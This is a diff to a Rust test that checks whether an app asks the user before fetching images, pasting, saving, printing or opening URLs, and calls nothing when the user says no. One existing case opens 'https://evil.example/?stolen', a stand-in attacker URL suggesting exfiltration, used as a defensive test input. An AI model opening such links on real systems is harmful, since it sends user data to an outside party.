@@ -86,9 +86,13 @@ fn without_a_press_the_person_is_asked_and_a_no_reads_and_calls_nothing() {
     });
     let host = web.origin().replace("http://", "");
     let fetched = Question::Fetch { hosts: vec![host] };
+    let piece = json!({ "message": "m", "thought": false, "before": 0 });
     for (command, params, question) in [
         ("images|fetch", json!({ "id": id }), fetched.clone()),
         ("images|paste", Value::Null, Question::Paste),
+        ("out|save_table", piece.clone(), Question::Save),
+        ("out|save_code", piece, Question::Save),
+        ("out|print", json!({ "id": "c" }), Question::Print),
         (
             "desktop|open",
             json!({ "url": "https://evil.example/?stolen" }),
